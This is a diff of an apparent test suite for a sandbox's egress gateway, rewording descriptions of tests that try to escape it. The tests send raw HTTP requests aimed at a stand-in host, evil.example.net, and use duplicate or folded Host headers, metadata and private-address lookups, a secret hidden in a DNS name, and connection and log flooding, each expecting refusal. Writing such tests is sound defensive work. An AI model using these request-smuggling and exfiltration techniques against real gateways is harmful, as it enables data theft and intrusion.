@@ -13,9 +13,9 @@ from tests.attacks.inside.network import METADATA, OTHER, PRIVATE, SERVER
 from tests.attacks.inside.record import EXFILTRATION, EXHAUSTION, TAMPERING, attack, held, won
 
 BY_NAME = "the gateway's rules: only what the profile lists, by name and port"
-BY_ADDRESS = "the gateway looks at every address that a name leads to, each time it connects"
-ONE_SPELLING = "the gateway takes names in one spelling, and no address in any"
-SAME_WORDS = "the gateway writes each request anew, by its own reading of it"
+BY_ADDRESS = "the gateway checks every address that a name resolves to, each time it connects"
+ONE_SPELLING = "the gateway accepts names in one spelling only, and no addresses"
+SAME_WORDS = "the gateway rewrites each request from its own parse"
 PATIENCE = 4.0
 
 
@@ -100,7 +100,7 @@ def another_port_of_an_allowed_host() -> str:
     return any_tunnel("api.example.com:8443", "api.example.com:22")
 
 
-@attack(EXFILTRATION, BY_NAME, "403 .*not allowed; .*403", cage="allow", control="the names exist for nobody else")
+@attack(EXFILTRATION, BY_NAME, "403 .*not allowed; .*403", cage="allow", control="only this test's names exist")
 def names_that_look_alike() -> str:
     """hosts whose names begin or end as allowed ones do"""
     return any_tunnel(
@@ -171,27 +171,27 @@ def a_name_that_leads_to_metadata() -> str:
 
 @attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a private address", cage="allow")
 def a_name_that_leads_to_private_addresses() -> str:
-    """an allowed name that leads into the private network"""
+    """an allowed name that resolves into the private network"""
     return tunnel("private.example.com:443")
 
 
 @attack(EXFILTRATION, BY_ADDRESS, "403 .*leads to 127.0.0.1, which is a reserved address", cage="allow",
-        control="nothing listens on the ports that the world gives to allowed names there")  # fmt: skip
+        control="nothing listens there on the ports of allowed names")  # fmt: skip
 def a_name_that_leads_to_the_gateway_itself() -> str:
-    """an allowed name that leads to the gateway's own loopback"""
+    """an allowed name that resolves to the gateway's own loopback"""
     return tunnel("loopback.example.com:443")
 
 
 @attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a (reserved|private) address", cage="allow")
 def a_name_that_leads_to_the_host() -> str:
-    """an allowed name that leads to the host's own services"""
+    """an allowed name that resolves to the host's own services"""
     return tunnel(f"host.example.com:{TCP_OF_HOST}", b"x")
 
 
 TCP_OF_HOST = 5998
 
 
-@attack(EXFILTRATION, BY_ADDRESS, "40[03]|502 ", cage="allow", control="without IPv6 there is nobody to answer")
+@attack(EXFILTRATION, BY_ADDRESS, "40[03]|502 ", cage="allow", control="without IPv6 nothing answers")
 def a_name_that_leads_to_a_mapped_address() -> str:
     """an allowed name whose IPv6 address holds the metadata service's"""
     return tunnel("mapped.example.com:443")
@@ -202,7 +202,7 @@ def a_name_that_leads_to_a_mapped_address() -> str:
 
 @attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403", cage="allow")
 def the_gateway_through_itself() -> str:
-    """ask the gateway for itself, to go round what it looks at first"""
+    """ask the gateway for itself, to bypass its first check"""
     host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
     return any_tunnel(f"127.0.0.1:{port}", f"localhost:{port}", f"{host}:{port}") if not os.environ.get("WEAK") else (
         tunnel(f"127.0.0.1:{port}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
@@ -216,10 +216,10 @@ def another_gateway_through_this_one() -> str:
     return tunnel(f"{address}:{os.environ['NEIGHBOUR_PORT']}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
 
 
-@attack(EXFILTRATION, "a proxy's client names the whole destination; nothing else is answered", "HTTP/1.1 40[03]",
+@attack(EXFILTRATION, "a proxy request must name the whole destination; nothing else is answered", "HTTP/1.1 40[03]",
         cage="allow")  # fmt: skip
 def a_request_that_names_no_host() -> str:
-    """a request without a destination, which a careless proxy sends where its Host field says"""
+    """a request without a destination, which a careless proxy sends to its Host field's target"""
     answer = ask(b"GET / HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n")
     return won(_served(answer)) if b"served by" in answer else held(_first_line(answer))
 
@@ -273,7 +273,7 @@ def another_host_field() -> str:
 
 @attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 400", cage="allow")
 def two_host_fields() -> str:
-    """two Host fields, of which one reader takes the first and another the last"""
+    """two Host fields, of which one parser uses the first and another the last"""
     request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\n\r\n"
     return _plain(request, b"evil.example.net")
 
@@ -294,7 +294,7 @@ def an_old_protocol() -> str:
 
 @attack(EXFILTRATION, SAME_WORDS, "never as it was", cage="allow")
 def folded_fields() -> str:
-    """a field that goes on in the next line, and lines that end in a bare LF"""
+    """a field continued on the next line, and lines that end in a bare LF"""
     request = (
         b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n Host: evil.example.net\r\n"
         b"Connection: close\r\n\r\n"
@@ -307,7 +307,7 @@ def folded_fields() -> str:
     return won("as it was") if folded or returned else held("refused, or written anew: never as it was")
 
 
-@attack(EXFILTRATION, "every request on a connection is judged by itself", "HTTP/1.1 403", cage="allow")
+@attack(EXFILTRATION, "every request on a connection is checked separately", "HTTP/1.1 403", cage="allow")
 def a_second_request_behind_the_first() -> str:
     """a denied request right behind an allowed one, on the same connection"""
     first = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
@@ -322,7 +322,7 @@ def a_second_request_behind_the_first() -> str:
 
 @attack(EXFILTRATION, f"{BY_NAME}; what is refused is never resolved", "403.*; .*403", cage="allow")
 def a_secret_in_a_name() -> str:
-    """write it into the name of a denied host, so that whoever resolves it gets it"""
+    """put it into the name of a denied host, so that whoever resolves the name gets it"""
     return any_tunnel("secret-five.evil.example.net:443", "evil.example.net:443")
 
 
@@ -334,13 +334,13 @@ def _still_serves() -> str:
     return held("it still serves") if b"served by" in answer else won("it serves nobody any more")
 
 
-AFTER = "that the attack was real is seen in the gateway's records, and that it failed by what it serves afterwards"
+AFTER = "the gateway's records show the attack, and its later answers show that it failed"
 
 
-@attack(EXHAUSTION, "the gateway takes a bounded number at once, the rest wait", "it still serves", cage="allow",
+@attack(EXHAUSTION, "the gateway accepts a limited number at once; the rest wait", "it still serves", cage="allow",
         control=AFTER)  # fmt: skip
 def countless_connections() -> str:
-    """open as many connections to the gateway as it takes to use it up"""
+    """open connections to the gateway until it is exhausted"""
     kept = []
     for _ in range(300):
         try:
@@ -353,7 +353,7 @@ def countless_connections() -> str:
     return _still_serves()
 
 
-@attack(EXHAUSTION, "the gateway waits ten seconds for a request's head, whatever comes meanwhile", "it still serves",
+@attack(EXHAUSTION, "the gateway waits at most ten seconds for a request's head", "it still serves",
         cage="allow", control=AFTER)  # fmt: skip
 def a_request_that_never_ends() -> str:
     """send requests so slowly that they never end"""
@@ -400,7 +400,7 @@ def forge_the_gateways_records() -> str:
     return next((one for one in said if one.startswith("won")), said[0])
 
 
-@attack(TAMPERING, "records have a budget: what came first stays, and when it is used up nothing more is let out",
+@attack(TAMPERING, "records have a budget: earlier ones stay, and once it is used up all requests are refused",
         "every one refused", cage="allow", control=AFTER)  # fmt: skip
 def flood_the_gateways_records() -> str:
     """so many refused requests that the records of earlier ones are lost"""
@@ -413,7 +413,7 @@ def flood_the_gateways_records() -> str:
 # -- egress: open ---------------------------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, "open means public: reserved addresses are never let through", "403.*reserved.*; .*403",
+@attack(EXFILTRATION, "open means public: reserved addresses are never allowed", "403.*reserved.*; .*403",
         cage="open")  # fmt: skip
 def open_metadata() -> str:
     """with egress open: the metadata service, by address and by name"""
@@ -427,7 +427,7 @@ def open_private() -> str:
     return any_tunnel(f"{PRIVATE}:80", "private.example.com:80")
 
 
-@attack(EXFILTRATION, "the gateway refuses the addresses of its machine and of all that is near", "403.*; .*403",
+@attack(EXFILTRATION, "the gateway refuses the addresses of its machine and its networks", "403.*; .*403",
         cage="open")  # fmt: skip
 def open_host() -> str:
     """with egress open: the host's own services, by each of its addresses and by name"""
@@ -435,7 +435,7 @@ def open_host() -> str:
     return any_tunnel(*(f"{address}:{TCP_OF_HOST}" for address in hosts), f"host.example.com:{TCP_OF_HOST}")
 
 
-@attack(EXFILTRATION, "the gateway refuses private addresses, and where it stands itself", "403.*; .*403", cage="open")
+@attack(EXFILTRATION, "the gateway refuses private addresses and its own", "403.*; .*403", cage="open")
 def open_neighbours() -> str:
     """with egress open: other sandboxes and their gateways, and this gateway itself"""
     gateways = os.environ["NEIGHBOUR_GATEWAY"].split()
@@ -443,7 +443,9 @@ def open_neighbours() -> str:
     return any_tunnel(f"{os.environ['NEIGHBOUR']}:8080", *(f"{one}:{port}" for one in gateways), "127.0.0.1:3128")
 
 
-@attack(EXFILTRATION, "open opens the gateway, not the network", "ENETUNREACH|EHOSTUNREACH|no answer", cage="open")
+@attack(
+    EXFILTRATION, "open applies to the gateway, not to the network", "ENETUNREACH|EHOSTUNREACH|no answer", cage="open"
+)
 def open_straight() -> str:
     """with egress open: straight to a public address, past the gateway and its records"""
     from tests.attacks.inside.network import _tcp
